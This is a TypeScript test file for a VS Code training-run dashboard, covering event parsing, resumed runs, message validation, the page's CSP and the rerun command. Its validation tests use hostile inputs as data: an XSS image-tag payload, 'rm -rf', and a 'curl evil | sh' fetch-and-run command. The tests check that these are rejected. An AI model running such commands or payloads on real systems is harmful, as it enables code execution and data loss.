// The run dashboard without a browser: events.jsonl -> series (incremental updates, resumed runs,
// per-label accuracy, best step), the messages' validation, the page's Content-Security-Policy,
// following a growing file, the reproducing command, and the chart data joins.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { applyUpdate, DashboardModel, emptyTrain, perLabelAccuracy, smooth, type Evaluation } from '../../src/shared/dashboardModel';
import { makeEvent, type JobEvent } from '../../src/shared/events';
import {
  ACTIONS, MAX_DASHBOARD_RUNS, validateHostMessage, validateViewState, validateWebviewMessage,
} from '../../src/shared/dashboardProtocol';
import { dashboardCsp, dashboardHtml } from '../../src/extension/dashboard/html';
import { DashboardSession, EventFileFollower, readRunConfig, rerunFolder } from '../../src/extension/dashboard/session';
import { axisNumber } from '../../webview/dashboardData';
import { reproduceCommand } from '../../src/core/trainFlags';
import { parseTrainArgs, trainerArgs } from '../../src/cli/commands/train';
import { alignSeries, configRows, perLabelSeries } from '../../webview/dashboardData';

const start = (config: Record<string, unknown> = { max_steps: 100, eval_split: 'validation' }) => makeEvent('start', { job: 'train', run_dir: '/r', config });
const progress = (done: number, loss: number, extra: Record<string, number> = {}) =>
  ({ ...makeEvent('progress', { phase: 'train', done, total: 100, loss, lr: 0.001, samples_per_s: 50, eta_s: 100 - done }), ...extra }) as JobEvent;
const evalAt = (step: number, acc: number, matrix = [[4, 0, 0], [1, 3, 0], [0, 2, 2]]): JobEvent[] => [
  makeEvent('metric', { name: 'accuracy', value: acc, step, split: 'validation' }),
  makeEvent('metric', { name: 'confusion_matrix', value: { labels: ['0', '1', '2'], rows: 'true', columns: 'predicted', matrix }, step, split: 'validation' }),
  makeEvent('metric', { name: 'loss', value: 1 - acc, step, split: 'validation' }),
];
const jsonl = (events: JobEvent[]) => events.map((e) => JSON.stringify(e)).join('\n') + '\n';

test('events -> series: training columns per progress event, one evaluation per step, best step', () => {
  const m = new DashboardModel();
  m.addText(jsonl([start(), progress(10, 1.1), progress(20, 0.9, { mem_used: 2 ** 30, mem_peak: 2 ** 31, gpu_util: 87 }),
    makeEvent('metric', { name: 'loss', value: 0.9, step: 20, split: 'train' }), ...evalAt(20, 0.5), progress(30, 0.7), ...evalAt(30, 0.75), ...evalAt(40, 0.6)]));
  assert.deepEqual(m.train.step, [10, 20, 30]);
  assert.deepEqual(m.train.loss, [1.1, 0.9, 0.7]);
  assert.deepEqual(m.train.etaS, [90, 80, 70]);
  assert.deepEqual(m.train.memUsed, [null, 2 ** 30, null]);
  assert.deepEqual(m.train.gpuUtil, [null, 87, null]);
  assert.deepEqual(m.evals.map((e) => [e.step, e.accuracy, e.loss]), [[20, 0.5, 0.5], [30, 0.75, 0.25], [40, 0.6, 0.4]]);
  assert.equal(m.best()?.step, 30);
  assert.equal(m.meta.status, 'running');
  assert.equal(m.meta.totalSteps, 100);
  assert.deepEqual(perLabelAccuracy(m.evals[0].matrix as number[][]), [1, 0.75, 0.5]);
  m.add(makeEvent('done', { summary: { steps: 40, early_stopped: true } }));
  assert.equal(m.meta.status, 'finished');
  assert.equal(m.meta.earlyStopped, true);
});

test('updates: everything first, then only what was appended; the webview copy equals the model', () => {
  const m = new DashboardModel();
  const view = { train: emptyTrain(), evals: [] as Evaluation[] };
  m.addText(jsonl([start(), progress(1, 2), progress(2, 1.5)]));
  const first = m.takeUpdate();
  assert.equal(first.reset, true);
  assert.deepEqual(first.train.step, [1, 2]);
  applyUpdate(view, first);
  assert.equal(m.changed, false);
  m.addText(jsonl([progress(3, 1.2), evalAt(3, 0.4)[0]]));
  const second = m.takeUpdate();
  assert.equal(second.reset, false);
  assert.deepEqual(second.train.step, [3]);
  assert.deepEqual(second.evals.map((e) => [e.step, e.accuracy, e.matrix]), [[3, 0.4, null]]);
  applyUpdate(view, second);
  // The rest of that evaluation arrives after it was sent: it is sent again, not duplicated.
  m.addText(jsonl(evalAt(3, 0.4).slice(1)));
  const third = m.takeUpdate();
  assert.equal(third.reset, false);
  assert.deepEqual(third.evals.map((e) => e.step), [3]);
  applyUpdate(view, third);
  assert.deepEqual(view.train, m.train);
  assert.deepEqual(view.evals, m.evals);
});

test('a resumed run drops the points after its checkpoint and sends everything again', () => {
  const m = new DashboardModel();
  m.addText(jsonl([start(), progress(10, 1), ...evalAt(10, 0.4), progress(20, 0.8), ...evalAt(20, 0.5), progress(25, 0.7)]));
  m.takeUpdate();
  m.addText(jsonl([makeEvent('error', { message: 'the trainer was killed by SIGKILL', hint: '' })]));
  assert.equal(m.meta.status, 'failed');
  m.addText(jsonl([start(), progress(11, 0.95), progress(20, 0.81), ...evalAt(20, 0.55)]));
  assert.deepEqual(m.train.step, [10, 11, 20]);
  assert.deepEqual(m.evals.map((e) => [e.step, e.accuracy]), [[10, 0.4], [20, 0.55]]);
  assert.equal(m.meta.status, 'running');
  assert.equal(m.meta.starts, 2);
  const u = m.takeUpdate();
  assert.equal(u.reset, true);
  assert.deepEqual(u.train.step, [10, 11, 20]);
});

test('hostile lines: non-train jobs, bad confusion matrices, odd config values are ignored or dropped', () => {
  const m = new DashboardModel();
  m.addText([
    JSON.stringify(makeEvent('start', { job: 'evaluate', run_dir: null, config: { max_steps: 9 } })),
    JSON.stringify(start({ max_steps: 50, nested: { a: 1 }, long: 'x'.repeat(5000), 'bad key': 1, ok: true })),
    '{"event":"progress","time":"t","phase":"train","done":"5","total":10}',
    JSON.stringify(makeEvent('metric', { name: 'confusion_matrix', value: { matrix: [[1, 2], [3]] }, step: 5, split: 'validation' })),
    JSON.stringify(makeEvent('metric', { name: 'confusion_matrix', value: { labels: ['<img src=x onerror=alert(1)>', 'b'], matrix: [[1, -2], [0, 1]] }, step: 6, split: 'validation' })),
    'not json',
    '{"event":"progress","time":"t","phase":"train","done":7,"total":10,"rss":"lots","cpu_s":3,"mem_used":1e9}',
  ].join('\n'));
  assert.deepEqual([m.train.rss, m.train.cpuS, m.train.memUsed], [[null], [3], [1e9]]);
  assert.equal(m.meta.starts, 1);
  assert.deepEqual(Object.keys(m.meta.config).sort(), ['long', 'max_steps', 'ok']);
  assert.equal((m.meta.config.long as string).length, 1000);
  assert.deepEqual(m.train.step, [7]);
  assert.deepEqual(m.evals.map((e) => e.matrix), [null, null]);
});

test('smoothing: 0 is raw, debiased EMA otherwise, nulls kept', () => {
  assert.deepEqual(smooth([1, null, 3], 0), [1, null, 3]);
  const s = smooth([2, 2, 2, null, 2], 0.9);
  assert.ok(s.every((v, i) => (i === 3 ? v === null : Math.abs((v as number) - 2) < 1e-12)), String(s));
  const t = smooth([0, 10], 0.5) as number[];
  assert.ok(Math.abs(t[1] - 10 * 0.5 / 0.75) < 1e-9);
});

test('webview messages: only ready and known actions on an existing run', () => {
  assert.deepEqual(validateWebviewMessage({ kind: 'ready' }, 1), { ok: true, value: { kind: 'ready' } });
  for (const a of ACTIONS) assert.equal(validateWebviewMessage({ kind: 'action', action: a, run: 0 }, 1).ok, true);
  const bad: unknown[] = [
    null, 'ready', [], { kind: 'ready', run: 0 }, { kind: 'run' }, { kind: 'action', action: 'rm -rf', run: 0 },
    { kind: 'action', action: 'cancel', run: 1 }, { kind: 'action', action: 'cancel', run: -1 }, { kind: 'action', action: 'cancel', run: 0.5 },
    { kind: 'action', action: 'cancel', run: 0, path: '/etc' }, { kind: 'action', action: 'toString', run: 0 },
    { kind: 'action', action: 'copyCommand', run: 0, command: 'curl evil | sh' },
  ];
  for (const m of bad) assert.equal(validateWebviewMessage(m, 1).ok, false, JSON.stringify(m));
});

test('host messages and the saved state are checked in the webview', () => {
  const m = new DashboardModel();
  m.addText(jsonl([start(), progress(1, 1), ...evalAt(1, 0.3)]));
  const update = { kind: 'update', run: 0, update: m.takeUpdate() };
  assert.ok(validateHostMessage(update));
  assert.equal(validateHostMessage({ ...update, update: { ...update.update, train: { ...update.update.train, loss: ['1'] } } }), undefined);
  assert.equal(validateHostMessage({ kind: 'runs', runs: [{ name: 'a', path: '/a', command: '', config: null, actions: ['format-disk'] }] }), undefined);
  assert.ok(validateHostMessage({ kind: 'runs', runs: [{ name: 'a', path: '/a', command: 'x', config: { a: 1 }, actions: ['cancel'] }] }));
  assert.equal(validateHostMessage({ kind: 'eval', code: 'x' }), undefined);
  assert.deepEqual(validateViewState({ runs: ['/a', 7, '', '/b'], logScale: 'yes', smoothing: 5 }), { version: 1, runs: ['/a', '/b'], logScale: false, smoothing: 0.99 });
  assert.equal(validateViewState({ runs: Array.from({ length: 20 }, (_, i) => `/r${i}`) }).runs.length, MAX_DASHBOARD_RUNS);
  assert.deepEqual(validateViewState(null), { version: 1, runs: [], logScale: false, smoothing: 0.6 });
});

test('HTML: strict CSP with a nonce, no remote or inline content; webview sources never parse HTML', () => {
  const csp = dashboardCsp('vscode-resource:', 'N0nce');
  assert.match(csp, /^default-src 'none'; /);
  assert.match(csp, /script-src 'nonce-N0nce'(;|$)/);
  assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|https?:|\*|data:/);
  const html = dashboardHtml({ cspSource: 'vscode-resource:', nonce: 'N0nce', scriptUri: 'vscode-resource:/d.js', title: '<b>"run"</b>' });
  assert.equal((html.match(/<script/g) ?? []).length, 1);
  assert.match(html, /<script nonce="N0nce" src="vscode-resource:\/d\.js"><\/script>/);
  assert.match(html, /<title>&lt;b&gt;&quot;run&quot;&lt;\/b&gt;<\/title>/);
  assert.doesNotMatch(html, /style=/);
  for (const f of ['dashboard.ts', 'dashboardData.ts']) {
    const src = fs.readFileSync(path.join(__dirname, '..', '..', 'webview', f), 'utf8');
    assert.doesNotMatch(src, /innerHTML|outerHTML|insertAdjacentHTML|document\.write|new Function|\beval\(/, f);
  }
});

test('EventFileFollower: reads appended lines (a partial line waits), starts over when the file is replaced', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dash-'));
  try {
    const file = path.join(dir, 'events.jsonl');
    const f = new EventFileFollower(file);
    assert.deepEqual(await f.read(), { lines: [], restarted: false });
    fs.writeFileSync(file, 'a\nb');
    assert.deepEqual(await f.read(), { lines: ['a'], restarted: false });
    fs.appendFileSync(file, 'c\nd\n');
    assert.deepEqual(await f.read(), { lines: ['bc', 'd'], restarted: false });
    assert.deepEqual(await f.read(), { lines: [], restarted: false });
    fs.writeFileSync(file, 'x\n');
    assert.deepEqual(await f.read(), { lines: ['x'], restarted: true });
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test('DashboardSession: follows a run folder, its cards have the config, the command and the actions', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dash-run-'));
  try {
    const config = { ckpt_id: 'tiny', dataset_folder: 'data set', output_dir: dir, mode: 'full', max_steps: 40, epochs: null, batch_size: 32, lr: 0.001,
      augment: true, resume: false, push_to_hub: false, early_stop_patience: 3, prompt: "count: it's", written_by: 'intersections train' };
    fs.writeFileSync(path.join(dir, 'config.json'), JSON.stringify(config));
    fs.writeFileSync(path.join(dir, 'events.jsonl'), jsonl([start(config), progress(10, 1)]));
    const s = new DashboardSession([dir]);
    assert.deepEqual(await s.poll(), [0]);
    assert.deepEqual(s.runs[0].model.takeUpdate().train.step, [10]);
    await s.loadConfigs();
    let [card] = await s.cards(() => true);
    assert.deepEqual(card.actions, ['cancel', 'openLog', 'copyCommand']);
    assert.equal(card.config?.ckpt_id, 'tiny');
    fs.appendFileSync(path.join(dir, 'events.jsonl'), jsonl([progress(40, 0.5), ...evalAt(40, 0.9), makeEvent('done', { summary: { steps: 40 } })]));
    fs.mkdirSync(path.join(dir, 'model'));
    fs.writeFileSync(path.join(dir, 'predictions-test.jsonl'), '');
    assert.deepEqual(await s.poll(), [0]);
    assert.deepEqual(s.runs[0].model.takeUpdate().train.step, [40]);
    assert.deepEqual(await s.poll(), []);
    [card] = await s.cards(() => false);
    assert.deepEqual(card.actions, ['continue', 'evaluate', 'exportOnnx', 'showPredictions', 'openLog', 'copyCommand']);
    // The command trains the same run again into a new folder, with every resolved value.
    assert.equal(card.command, `intersections train --ckpt-id tiny --dataset-folder 'data set' --output-dir ${rerunFolder(dir)} --mode full --max-steps 40 --batch-size 32 --lr 0.001 --prompt 'count: it'\\''s' --early-stop-patience 3 --augment`);
    const words = ['--ckpt-id', 'tiny', '--dataset-folder', 'data set', '--output-dir', rerunFolder(dir), '--mode', 'full', '--max-steps', '40', '--batch-size', '32', '--lr', '0.001', '--prompt', "count: it's", '--early-stop-patience', '3', '--augment'];
    assert.deepEqual(trainerArgs(parseTrainArgs(words)).slice(3), words.filter((w) => w !== '--augment').concat('--augment'));
    fs.writeFileSync(path.join(dir, 'config.json'), '[1,2]');
    assert.equal(await readRunConfig(dir), null);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test('reproduceCommand: booleans become switches, nulls and resume are left out', () => {
  assert.equal(reproduceCommand({ ckpt_id: 'tiny', epochs: null, augment: false, resume: true, push_to_hub: true, model_id: 'me/m', private: true }, '/r2'),
    'intersections train --ckpt-id tiny --output-dir /r2 --model-id me/m --no-augment --push-to-hub --private');
});

test('chart data: series on different steps joined on one x axis; per-label series; configs side by side', () => {
  const [x, a, b] = alignSeries([{ x: [1, 2, 3], y: [1, 2, 3] }, { x: [2, 4], y: [20, 40] }]);
  assert.deepEqual(x, [1, 2, 3, 4]);
  assert.deepEqual(a, [1, 2, 3, null]);
  assert.deepEqual(b, [null, 20, null, 40]);
  const m = new DashboardModel();
  m.addText(jsonl([start(), ...evalAt(5, 0.5), ...evalAt(10, 0.6, [[2, 0, 0], [0, 2, 0], [0, 0, 0]])]));
  assert.deepEqual(perLabelSeries(m.evals).map((s) => [s.label, s.x, s.y]), [['0', [5, 10], [1, 1]], ['1', [5, 10], [0.75, 1]], ['2', [5, 10], [0.5, null]]]);
  const rows = configRows([{ lr: 0.001, mode: 'full', written_by: 'x' }, { lr: 0.002, mode: 'full', seed: 1 }]);
  assert.deepEqual(rows, [
    { key: 'lr', values: ['0.001', '0.002'], differs: true },
    { key: 'mode', values: ['"full"', '"full"'], differs: false },
    { key: 'seed', values: ['–', '1'], differs: true },
  ]);
});

test('y-axis labels show small values such as a learning rate of 2e-4 (uPlot printed 0)', () => {
  assert.deepEqual([0, 0.0002, 0.00015, 0.001, -0.0005].map(axisNumber), ['0', '2e-4', '1.5e-4', '1e-3', '-5e-4']);
  assert.deepEqual([0.5, 1, 2.25, 1234.5678, 0.0123].map(axisNumber), ['0.5', '1', '2.25', '1230', '0.0123']);
  assert.deepEqual([null, Number.NaN].map(axisNumber), ['', '']);
});
